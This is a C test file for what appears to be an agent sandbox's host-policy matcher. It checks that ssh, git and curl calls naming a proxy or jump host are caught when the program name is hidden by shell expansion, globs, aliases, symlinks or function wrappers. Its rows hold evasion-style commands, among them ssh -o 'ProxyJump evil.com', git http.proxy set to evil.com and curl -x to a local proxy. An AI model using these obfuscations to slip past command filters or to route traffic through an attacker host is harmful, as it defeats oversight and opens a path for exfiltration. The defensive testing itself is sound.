/* SPDX-License-Identifier: Apache-2.0 */
/*
 * tests/kernel/test_rev63_hostarm.c - review 23 "hostfix" R1, H1, M1
 * (docs/security.md "How a host is read"): one matcher and one arming
 * model, per command segment, for a bundle's host option ("-sx", "-AJ")
 * and the KEY VALUE readings (ssh's -o, git's config, curl's config
 * text):
 *   - R1: "-o KEY VALUE" and "config KEY VALUE" were read only when a
 *     word named ssh or git as the old matcher took words: "${S:-ssh}",
 *     "ss?", rsync's -e"ssh ..", "${G:-git}", "gi?" and an ssh tool's
 *     {"options": "-o ProxyJump evil.com"} went unread;
 *   - H1: a bundle was read only where curl was named: "${C:-curl}",
 *     "sh -c '$1 -sx ..' _ curl", "C=cu; ${C}rl", "cur?", "$(printf
 *     cu)rl", "{cu,}rl" went unread; a command word holding an expansion
 *     or a glob, a leaf or argv starting with an option, a "-c" script
 *     whose command is one now arm every reading;
 *   - M1: naming curl anywhere in the call armed every other command's
 *     bundle ("curl URL && bash -ex install.sh", "cp -ax", "grep -rnx",
 *     a JSON issue body with a "curl" label): only the segment's own
 *     programs arm it now; but a name a segment holds as an argument
 *     ("ln -s $(command -v curl) c", "cp /usr/bin/ssh x") or an alias or
 *     function defined in the leaf arms every segment of the leaf.
 * Each row stands beside an allowed url.
 */
#include <criterion/criterion.h>

#include "kernel/kernelutil.h"

#define NOW 1710000300u

Test(rev63_hostarm, r1_key_value_is_read_where_ssh_or_git_is_hidden)
{
    static const kt_row rows[] = {
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"host\": \"api.example.com\", \"options\": \"-o "
         "'ProxyJump evil.com'\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"host\": \"api.example.com\", \"options\": \"-o "
         "ProxyJump evil.com\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"${S:-ssh} -o 'ProxyJump evil.com' "
         "host\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"S=s; ${S}sh -o 'ProxyJump evil.com' "
         "host\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"/usr/bin/ss? -o 'ProxyJump evil.com' "
         "host\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"rsync -e\\\"ssh -o 'ProxyJump "
         "evil.com'\\\" -a d/ api.example.com:/srv/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"${G:-git} config --global http.proxy "
         "evil.com:3128\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"gi? config --global http.proxy "
         "evil.com:3128\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"(cd /tmp && ss? -o 'ProxyJump "
         "evil.com' h)\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"C:\\\\bin\\\\ssh.exe -o 'ProxyJump "
         "evil.com' h\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo 'proxy = 127.0.0.1:18222' | "
         "${C:-curl} -K - https://api.example.com/\"}",
         0},
    };
    kt_run_rows_at(NOW, rows, sizeof(rows) / sizeof(rows[0]));
}

Test(rev63_hostarm, h1_a_bundle_is_read_where_curl_is_hidden)
{
    static const kt_row rows[] = {
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"${C:-curl} -sx 127.0.0.1:18222 "
         "https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"sh -c '$1 -sx 127.0.0.1:18222 "
         "https://api.example.com/' _ curl\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"C=cu; ${C}rl -sx 127.0.0.1:18222 "
         "https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"/usr/bin/cur? -sx 127.0.0.1:18222 "
         "https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo \\\"$(cur? -sx 127.0.0.1:18222 "
         "https://api.example.com/)\\\"\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"{cu,}rl -sx 127.0.0.1:18222 "
         "https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"cur[l] -sx 127.0.0.1:18222 "
         "https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"sudo -u root $C -sx 127.0.0.1:18222 "
         "https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"xargs -I{} $C -sx 127.0.0.1:18222 "
         "{}\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"sh -c 'cd /; cur? -sx 127.0.0.1:18222 "
         "https://api.example.com/'\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"bash -lc \\\"$X -sx 127.0.0.1:18222 "
         "https://api.example.com/\\\"\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"x=1 $C -sx 127.0.0.1:18222 "
         "https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo hi # it's\\n${C} -sx "
         "127.0.0.1:18222 https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"$(printf cu)rl -sx 127.0.0.1:18222 "
         "https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"if true; then $C -sx 127.0.0.1:18222 "
         "https://api.example.com/; fi\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"curl $(echo a) "
         "https://api.example.com/ -sx 127.0.0.1:18222\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"curl -H 'a;b' -sx 127.0.0.1:18222 "
         "https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"command\": \"curl\", \"args\": [\"-sx\", "
         "\"127.0.0.1:18222\", \"https://api.example.com/\"]}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"command\": \"curl\", \"args\": \"-sx "
         "127.0.0.1:18222 https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"args\": [\"sh\", \"-c\", \"$0 -sx "
         "127.0.0.1:18222 https://api.example.com/\", \"curl\"]}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"args\": [\"$C\", \"-sx\", \"127.0.0.1:18222\", "
         "\"https://api.example.com/\"]}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"args\": [\"sudo\", \"-u\", \"bob\", \"curl\", "
         "\"-sx\", \"127.0.0.1:18222\"]}",
         0},
    };
    kt_run_rows_at(NOW, rows, sizeof(rows) / sizeof(rows[0]));
}

Test(rev63_hostarm, m1_another_segment_or_leaf_arms_no_bundle)
{
    static const kt_row rows[] = {
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"curl -fsSL "
         "https://api.example.com/install.sh -o install.sh && bash -ex install.sh\"}",
         1},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"curl -sS https://api.example.com/ -o "
         "a.tgz && cp -ax src.d dst.d\"}",
         1},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"curl -sS https://api.example.com/ && "
         "grep -rnx main.py files.txt\"}",
         1},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"x=$(curl -s https://api.example.com/) "
         "&& bash -ex install.sh\"}",
         1},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"{ curl https://api.example.com/; } && "
         "bash -ex install.sh\"}",
         1},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"(curl https://api.example.com/) && cp "
         "-ax src.d dst.d\"}",
         1},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ls && curl https://api.example.com/ | "
         "sh -ex /dev/stdin\"}",
         1},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"curl https://api.example.com/\", "
         "\"after\": \"bash -ex install.sh\"}",
         1},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"body\": "
         "\"{\\\"title\\\":\\\"bug\\\",\\\"labels\\\":[\\\"curl\\\"],\\\"body\\\":\\\"Steps: run "
         "bash -ex setup.sh\\\"}\"}",
         1},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -i key.pem api.example.com "
         "uptime; gcc -o server server.c\"}",
         1},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"git clone https://api.example.com/r "
         "&& rsync -avx build/ dist/\"}",
         1},
    };
    kt_run_rows_at(NOW, rows, sizeof(rows) / sizeof(rows[0]));
}

Test(rev63_hostarm, m1_a_name_held_as_an_argument_arms_the_leaf)
{
    static const kt_row rows[] = {
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"alias c=curl; c -sx 127.0.0.1:18222 "
         "https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ln -s \\\"$(command -v curl)\\\" c; "
         "./c -sx 127.0.0.1:18222 https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ln -s /usr/bin/curl /tmp/c && /tmp/c "
         "-sx 127.0.0.1:18222 https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"cp /usr/bin/ssh /tmp/x; /tmp/x -o "
         "'ProxyJump evil.com' h\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"c () { curl \\\"$@\\\"; }\\nc -sx "
         "127.0.0.1:18222 https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"sudo curl https://api.example.com/ && "
         "cp -ax src.d dst.d\"}",
         1},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"timeout 10 curl "
         "https://api.example.com/ && grep -rnx main.py f.txt\"}",
         1},
        {KT_DX("api.example.com"),
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"xargs curl < urls.txt && cp -ax a.d "
         "b.d\"}",
         1},
    };
    kt_run_rows_at(NOW, rows, sizeof(rows) / sizeof(rows[0]));
}
